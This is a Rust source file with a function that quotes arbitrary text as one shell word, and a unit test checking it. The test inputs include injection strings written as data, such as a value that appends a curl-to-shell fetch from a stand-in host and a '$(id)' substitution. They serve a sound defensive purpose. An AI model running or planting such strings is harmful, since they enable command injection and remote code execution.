//! Lines for a shell that somebody copies.

use std::borrow::Cow;

/// A text of the cluster as one word of a shell, whatever is in it.
pub(crate) fn word(text: &str) -> Cow<'_, str> {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "-._/:@%+,=".contains(c);
    if !text.is_empty() && !text.starts_with('-') && text.chars().all(is_plain) {
        return Cow::Borrowed(text);
    }
    // What begins with a dash stays a flag; it is no name of anything.
    Cow::Owned(format!("'{}'", text.replace('\'', "'\\''")))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_name_stays_as_it_is_and_nothing_else_is_more_than_one_word() {
        assert_eq!(word("deployment/cart-2.0"), "deployment/cart-2.0");
        for (text, quoted) in [
            ("x; curl http://e/s|sh #", "'x; curl http://e/s|sh #'"),
            ("it's", "'it'\\''s'"),
            ("$(id)", "'$(id)'"),
            ("", "''"),
            ("a b", "'a b'"),
        ] {
            assert_eq!(word(text), quoted);
        }
    }
}
